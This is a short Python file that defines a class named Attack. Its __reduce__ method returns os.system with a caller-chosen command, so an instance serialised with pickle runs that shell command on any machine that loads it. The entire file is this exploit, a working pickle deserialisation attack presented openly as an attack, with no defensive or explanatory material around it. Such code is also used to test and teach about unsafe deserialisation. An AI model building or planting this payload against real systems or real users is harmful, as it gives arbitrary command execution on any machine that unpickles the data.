"""A pickle that runs a command where it is read in the ordinary way."""

import os


class Attack:
    """Runs its command when unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)
